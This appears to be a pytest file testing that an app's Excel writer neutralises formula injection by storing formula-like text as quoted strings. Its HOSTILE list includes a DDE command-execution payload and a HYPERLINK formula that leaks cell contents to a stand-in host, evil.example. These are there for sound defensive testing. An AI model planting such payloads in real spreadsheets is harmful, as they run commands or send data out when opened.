"""The one Excel toolkit: no workbook the app writes carries a formula, whatever the text."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from inspect_app import xlsx as kit

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "＝1+1",
]


def formula_cells(data: bytes) -> list[str]:
    """Every <f> element in every sheet of an .xlsx: what Excel would evaluate on opening."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_written_as_quoted_text(text):
    wb = Workbook()
    kit.write(wb.active, 1, 1, text)
    data = kit.to_bytes(wb)
    assert formula_cells(data) == []
    cell = load_workbook(io.BytesIO(data)).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize("text", HOSTILE)
def test_write_only_cells_are_never_formulas(text):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("data")
    ws.append([kit.cell(ws, text), kit.cell(ws, 42), kit.cell(ws, "plain")])
    data = kit.to_bytes(wb)
    assert formula_cells(data) == []
    assert [c.value for c in load_workbook(io.BytesIO(data))["data"][1]] == [text, 42, "plain"]


def test_the_detector_sees_a_formula_openpyxl_writes_by_default():
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    assert formula_cells(kit.to_bytes(wb)) == ["<f>1+1</f>"]


def test_only_the_toolkit_makes_workbooks():
    """Every workbook the app writes goes through the safe writer: no module but the toolkit
    creates openpyxl cells by hand."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1] / "inspect_app"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "xlsx.py" or path.parent != root
        for line in path.read_text(encoding="utf-8").splitlines()
        if re.search(r"\bws\.append\(|\.cell\(row=[^)]*value=|WriteOnlyCell\(", line)
        and "kit." not in line
    ]
    assert offenders == []
